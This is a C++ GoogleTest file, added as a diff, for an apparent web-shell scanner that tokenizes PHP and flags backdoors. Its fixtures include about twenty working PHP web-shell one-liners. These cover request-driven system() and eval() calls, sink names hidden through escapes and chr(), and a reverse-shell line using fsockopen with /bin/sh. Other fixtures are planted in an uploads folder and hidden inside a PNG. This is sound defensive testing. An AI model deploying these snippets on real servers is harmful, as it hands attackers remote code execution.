@@ -1,0 +1,226 @@
+// mamori web scan: the PHP tokenizer, the shell judgement on shells assembled here (none is
+// committed as a file), the DEV corpus of real shells, Debian's clean WordPress, and the scan of
+// a tree (links, FIFOs, files hiding PHP, known-good files).
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "web/php_lexer.h"
+#include "web/shell.h"
+#include "web/webscan.h"
+
+namespace mamori::web {
+namespace {
+
+namespace fs = std::filesystem;
+
+std::string slurp(const fs::path& p) {
+  std::ifstream f(p, std::ios::binary);
+  std::stringstream ss;
+  ss << f.rdbuf();
+  return ss.str();
+}
+
+TEST(PhpLexer, ReadsWhatPhpReads) {
+  PhpLex lx = php_lex(
+      "<html><?php $a = 'it\\'s'; $b = \"\\x65v\\141l\\u{41}$a\"; # c ?> x <? echo `ls`;\n"
+      "$h = <<<EOT\n  body $x\n  EOT;\n/* ?> */ (int) $n; <?xml ?>",
+      1000);
+  EXPECT_TRUE(lx.has_php);
+  std::vector<std::string> strings;
+  for (const auto& t : lx.tokens)
+    if (t.kind == PhpTok::kString) strings.push_back(t.value);
+  ASSERT_EQ(strings.size(), 4u);
+  EXPECT_EQ(strings[0], "it's");
+  EXPECT_EQ(strings[1], "evalA$a");  // \x65, octal \141, \u{41}; the variable stays as text
+  EXPECT_EQ(strings[2], "ls");
+  EXPECT_EQ(strings[3], "  body $x");
+  bool shell = false, interp = false, cast = false;
+  for (const auto& t : lx.tokens) {
+    shell = shell || t.shell;
+    interp = interp || (t.kind == PhpTok::kString && t.interpolated);
+    cast = cast || t.kind == PhpTok::kCast;
+  }
+  EXPECT_TRUE(shell && interp && cast);
+  // ?> inside a /* comment */ does not close PHP; <?xml does not open it.
+  EXPECT_GT(lx.inline_html, 0u);
+  // The budget bounds the work, and says so.
+  PhpLex cut = php_lex("<?php " + std::string(10000, ';'), 100);
+  EXPECT_TRUE(cut.truncated);
+  EXPECT_EQ(cut.tokens.size(), 100u);
+  EXPECT_FALSE(php_lex("GIF89a no code here", 100).has_php);
+}
+
+// Each kind of shell the judgement names, written here in a few lines.
+TEST(ShellJudge, FindsEachWayAShellRunsWhatTheRequestSays) {
+  const std::vector<std::pair<std::string, std::string>> shells = {
+      {"<?php system($_GET['c']);", "command execution"},
+      {"<?php $c = $_POST['x']; echo shell_exec($c);", "command execution"},
+      {"<?php eval(base64_decode($_POST['p']));", "PHP code from request input"},
+      {"<?php $d = gzinflate(base64_decode('S0ktLlEoLs4vSk3RBQA=')); eval($d);",
+       "eval of decoded data"},
+      {"<?php $f = $_GET['f']; $f($_GET['a']);", "a function called by a name"},
+      {"<?php $x=$_GET;($x[p]=='_'?$x[f]($x[c]):y);", "a function called by a name"},
+      {"<?php extract($_REQUEST); @die($ctime($atime));", "extract()"},
+      {"<?php $a = 'as'.'sert'; $a($_POST['x']);", "a sink's name cut into pieces"},
+      {"<?php $a = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; $a($_POST['x']);", "written in escapes"},
+      {"<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET[1]);",
+       "character codes"},
+      {"<?php array_udiff_assoc(array($_REQUEST['k']), array(1), 'assert');",
+       "a sink named as a callback"},
+      {"<?php call_user_func($_GET['f'], $_GET['a']);", "a callback named by request input"},
+      {"<?php include $_GET['page'];", "include of a file named by request input"},
+      {"<?php @include \"\\x2fh\\x6fm\\x65/\\x77e\\x62/\\x69c\\x6f.ico\";", "include of"},
+      {"<?php file_put_contents($_POST['n'], $_POST['c']); echo `id`;", "request input written"},
+      {"<?php function run($c) { return popen($c, 'r'); } run($_POST['cmd']);",
+       "a function that runs it"},
+      {"<?php echo `$_GET[c]`;", "backticks"},
+      {"<?php preg_replace('/x/e', $_POST['r'], 'x');", "/e modifier"},
+      {"<?php $s = fsockopen($_GET['h'], 4444); exec('/bin/sh -i <&3 >&3 2>&3');",
+       "network connection"},
+      {"<?php if ($cmd) { system($cmd); }", "register_globals"},
+  };
+  for (const auto& [code, why] : shells) {
+    ShellVerdict v = judge_php(code, "x.php");
+    EXPECT_TRUE(v.suspect()) << code;
+    bool named = false;
+    for (const auto& s : v.signals) named = named || s.what.find(why) != std::string::npos;
+    EXPECT_TRUE(named) << code << " should say: " << why;
+    if (!v.signals.empty()) {
+      EXPECT_EQ(v.signals[0].line, 1u) << code;
+    }
+  }
+  // PHP hidden in an image is a suspect of its own kind.
+  EXPECT_TRUE(judge_php("GIF89a<?php system($_GET['c']); ?>", "logo.gif").suspect());
+}
+
+TEST(ShellJudge, LeavesAlonePhpThatOnlyLooksDangerous) {
+  for (const char* code : {
+           // a command with the application's own arguments
+           "<?php $out = shell_exec('git rev-parse HEAD');",
+           // request input cleaned before use, callbacks from server tables
+           "<?php $n = (int) $_GET['n']; $page = intval($_GET['p']); exec('ls ' . $n);",
+           "<?php $cb = $handlers[$_POST['action']]; call_user_func($cb, $_POST);",
+           // a template chosen after checking, under a fixed directory
+           "<?php $t = basename($_GET['t']); include __DIR__ . '/templates/' . $t . '.php';",
+           // base64 of an image, decoded for output
+           "<?php echo base64_decode('iVBORw0KGgo='); $x = md5($_POST['pw']);",
+           // hooks and filters
+           "<?php add_action('init', function () { do_action('x', $_GET['q']); });",
+           "<?php $value = apply_filters('the_title', $_POST['title']); echo esc_html($value);",
+           "<?php foreach ($widgets as $w) { $w['callback']($w['args']); }",
+       })
+    EXPECT_FALSE(judge_php(code, "x.php").suspect()) << code;
+}
+
+// The DEV corpus (../shared/corpus/webshell): real shells and backdoors.
+TEST(ShellJudge, FindsTheDevCorpusShells) {
+  const fs::path dir = fs::path(MAMORI_SHARED) / "corpus/webshell";
+  if (!fs::exists(dir)) GTEST_FAIL() << dir << " is needed (the shared corpora)";
+  size_t n = 0, found = 0;
+  for (const auto& e : fs::recursive_directory_iterator(dir)) {
+    if (!e.is_regular_file() || e.path().extension() != ".sample") continue;
+    ++n;
+    found += judge_php(slurp(e.path()), e.path().stem().string()).suspect();
+  }
+  ASSERT_EQ(n, 588u);
+  // The share found today (docs/web.md); this fails if it drops.
+  EXPECT_GE(found * 100, n * 74) << found << " of " << n;
+}
+
+// Debian's WordPress (unpacked by scripts/install-deps.sh --test): clean code, none flagged.
+TEST(ShellJudge, FlagsNothingInDebiansWordPress) {
+  const fs::path wp = fs::path(MAMORI_SOURCE_DIR) / ".cache/wordpress/usr/share/wordpress";
+  if (!fs::exists(wp / "wp-includes/version.php"))
+    GTEST_FAIL() << wp << " is needed: run scripts/install-deps.sh --test";
+  size_t n = 0;
+  std::vector<std::string> flagged;
+  for (const auto& e : fs::recursive_directory_iterator(wp)) {
+    if (!e.is_regular_file() || e.path().extension() != ".php") continue;
+    ++n;
+    if (judge_php(slurp(e.path()), e.path().string()).suspect())
+      flagged.push_back(e.path().string());
+  }
+  EXPECT_GT(n, 900u);
+  EXPECT_TRUE(flagged.empty()) << flagged.size() << " flagged, e.g. " << flagged.front();
+}
+
+class WebScanTree : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    dir_ = fs::temp_directory_path() / ("mamori-webscan-" + std::to_string(::getpid()));
+    fs::remove_all(dir_);
+    fs::create_directories(dir_ / "var/www/site/wp-content/uploads/2026");
+    fs::create_directories(dir_ / "var/lib/dpkg/info");
+  }
+  void TearDown() override { fs::remove_all(dir_); }
+  void put(const std::string& rel, const std::string& text) {
+    fs::create_directories((dir_ / rel).parent_path());
+    std::ofstream(dir_ / rel, std::ios::binary) << text;
+  }
+  fs::path dir_;
+};
+
+TEST_F(WebScanTree, JudgesWhatHoldsPhpAndTrustsWhatIsKnownGood) {
+  const std::string shell = "<?php system($_GET['c']);";
+  put("var/www/site/wp-content/uploads/2026/cache.php", shell);
+  put("var/www/site/wp-content/uploads/2026/logo.png", "\x89PNG....<?php eval($_POST['x']); ?>");
+  put("var/www/site/index.php", "<?php echo 'hello';");
+  put("var/www/site/style.css", "body { color: red }");
+  // A shell dpkg shipped unchanged is known good (a package's own admin tool, say) …
+  put("var/www/site/tool.php", shell);
+  put("var/lib/dpkg/info/sitetool.md5sums",
+      "c3c1f5ef4d6eb3ca1bb8c1ff5b5f3d5e  var/www/site/other.php\n");
+  // A link to a shell outside the web root is never followed; a FIFO is never opened.
+  put("elsewhere/evil.php", shell);
+  fs::create_symlink(dir_ / "elsewhere/evil.php", dir_ / "var/www/site/link.php");
+  ASSERT_EQ(::mkfifo((dir_ / "var/www/site/pipe.php").c_str(), 0600), 0);
+
+  WebScanOptions o;
+  o.dirs = {"/var/www/site"};
+  auto r = web_scan(Root(dir_), o);
+  ASSERT_TRUE(r.has_value()) << r.error().message;
+  std::vector<std::string> paths;
+  for (const auto& s : r->suspects) paths.push_back(s.path);
+  std::sort(paths.begin(), paths.end());
+  EXPECT_EQ(paths, (std::vector<std::string>{"/var/www/site/tool.php",
+                                             "/var/www/site/wp-content/uploads/2026/cache.php",
+                                             "/var/www/site/wp-content/uploads/2026/logo.png"}));
+  EXPECT_EQ(r->links, 1u);
+  EXPECT_EQ(r->judged, 4u);  // three PHP files and the image holding PHP
+  // Now dpkg says tool.php is its file with these bytes: known good, not a suspect.
+  std::string md5;
+  for (const auto& s : r->suspects)
+    if (s.path == "/var/www/site/tool.php") md5 = s.md5;
+  ASSERT_EQ(md5.size(), 32u);
+  put("var/lib/dpkg/info/sitetool.md5sums", md5 + "  var/www/site/tool.php\n");
+  auto again = web_scan(Root(dir_), o);
+  ASSERT_TRUE(again.has_value());
+  EXPECT_EQ(again->suspects.size(), 2u);
+  EXPECT_EQ(again->known_good, 1u);
+  // … and so is a WordPress file whose bytes the release's checksums name.
+  put("var/www/site/wp-includes/version.php", "<?php $wp_version = '6.1';");
+  put("tmp-checksums.json", "{\"checksums\": {\"6.1\": {\"wp-content/uploads/2026/cache.php\": \"" +
+                                again->suspects.back().md5 + "\"}}}");
+  auto sums = read_wp_checksums((dir_ / "tmp-checksums.json").string());
+  ASSERT_TRUE(sums.has_value()) << sums.error().message;
+  o.wp_md5 = *sums;
+  auto third = web_scan(Root(dir_), o);
+  ASSERT_TRUE(third.has_value());
+  EXPECT_EQ(third->known_good, 2u);
+  ASSERT_EQ(third->suspects.size(), 1u);
+  // Findings: one per suspect, module web, the evidence naming the line.
+  auto f = webshell_findings(*third);
+  ASSERT_EQ(f.size(), 1u);
+  EXPECT_EQ(f[0].module, "web");
+  EXPECT_EQ(f[0].check, "webshell");
+  EXPECT_EQ(f[0].asset, "file:" + third->suspects[0].path);
+  EXPECT_NE(f[0].evidence.find("line 1:"), std::string::npos) << f[0].evidence;
+  EXPECT_FALSE(read_wp_checksums((dir_ / "var/www/site/style.css").string()).has_value());
+}
+
+}  // namespace
+}  // namespace mamori::web
